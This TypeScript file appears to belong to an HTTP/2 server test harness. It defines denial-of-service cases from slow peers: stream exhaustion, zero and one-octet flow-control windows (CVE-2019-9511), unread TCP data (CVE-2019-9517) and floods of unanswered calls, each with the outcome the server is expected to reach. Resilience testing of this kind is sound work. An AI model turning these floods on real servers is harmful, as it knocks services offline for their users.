/** Peers that ask for much and take little, so that everything they asked for waits in the victim. RFC 9113 section 5.2. */
import { ANSWERED, type Attack, CALMED, CLOSED, LIVES, streamsReset } from "../attacker/attack.js";
import { clientGreeting } from "../attacker/greetings.js";
import { FrameType, headers, MAX_WINDOW_BYTES, Setting, windowUpdate } from "../frames/frame.js";
import { perStream, repeated } from "../frames/frame-batch.js";
import { requestBlock } from "../frames/header-block.js";
import { download, ECHO_BLOCK, OPEN_CONNECTION_WINDOW, onStreams, STUBBORN_BLOCK, unaryCall } from "./requests.js";

const MIB = 1_048_576;

/** Sends a new call for each one that was answered, and so keeps as many running. */
function keepRunning(name: string, about: string, calls: number, block: Buffer): Attack {
  return {
    name,
    about,
    expected: [ANSWERED, streamsReset("REFUSED_STREAM")],
    begin: (connection) => {
      let nextId = 2 * calls + 1;
      connection.onFrame = (type) => {
        if (type !== FrameType.HEADERS) return;
        connection.write(unaryCall(nextId, block), 1);
        nextId += 2;
      };
      connection.write(
        onStreams(calls, (id) => unaryCall(id, block)),
        calls,
      );
    },
  };
}

export const slowPeers: readonly Attack[] = [
  keepRunning("stream-exhaustion", "1,200 handlers that ignore their signal, at all times", 1200, STUBBORN_BLOCK),
  {
    name: "zero-window",
    about: "1,000 streams that ask for 1 MiB each, and a window that never opens",
    expected: [LIVES],
    greeting: clientGreeting([Setting.INITIAL_WINDOW_SIZE, 0]),
    begin: (connection) =>
      connection.write(
        onStreams(1000, (id) => download(id, 1, MIB)),
        1000,
      ),
  },
  {
    name: "window-dribble",
    about: "100 streams of large messages through windows of one octet (CVE-2019-9511)",
    expected: [LIVES, CALMED],
    greeting: clientGreeting([Setting.INITIAL_WINDOW_SIZE, 1]),
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.write(onStreams(100, (id) => download(id, 1_000_000, 65_536)));
      connection.flood(
        repeated(
          onStreams(100, (id) => windowUpdate(id, 1)),
          100,
        ),
      );
    },
  },
  {
    name: "tcp-unread",
    about: "100 endless streams with open windows, of which not an octet is read (CVE-2019-9517)",
    expected: [LIVES, CLOSED],
    reads: false,
    greeting: clientGreeting([Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW_BYTES]),
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.write(
        onStreams(100, (id) => download(id, 1_000_000, 65_536)),
        100,
      );
    },
  },
  {
    name: "tcp-unread-many",
    about: "the same on 4 connections, with 1,000 streams of 16 KiB messages each",
    expected: [LIVES, CLOSED],
    reads: false,
    connections: 4,
    greeting: clientGreeting([Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW_BYTES]),
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.write(
        onStreams(1000, (id) => download(id, 1_000_000, 16_384)),
        1000,
      );
    },
  },
  {
    name: "trailers-unread",
    about: "calls to a method that does not exist, whose answers are never read",
    expected: [LIVES, CLOSED],
    reads: false,
    begin: (connection) => {
      const block = requestBlock("NoSuchMethod");
      connection.flood(perStream((id) => headers(id, block, true)));
    },
  },
  {
    name: "echo-unread",
    about: "small calls as fast as possible, whose answers are never read",
    expected: [LIVES, CLOSED],
    reads: false,
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.flood(perStream((id) => unaryCall(id, ECHO_BLOCK)));
    },
  },
  {
    name: "no-such-method",
    about: "calls to a method that does not exist, as fast as possible",
    expected: [ANSWERED],
    begin: (connection) => {
      const block = requestBlock("NoSuchMethod");
      connection.flood(perStream((id) => headers(id, block, true)));
    },
  },
  {
    name: "header-list-size-1",
    about: "small calls as fast as possible, by a client that says it takes header lists of one octet (CVE-2026-50560)",
    expected: [ANSWERED],
    greeting: clientGreeting([Setting.MAX_HEADER_LIST_SIZE, 1]),
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.flood(perStream((id) => unaryCall(id, ECHO_BLOCK)));
    },
  },
];
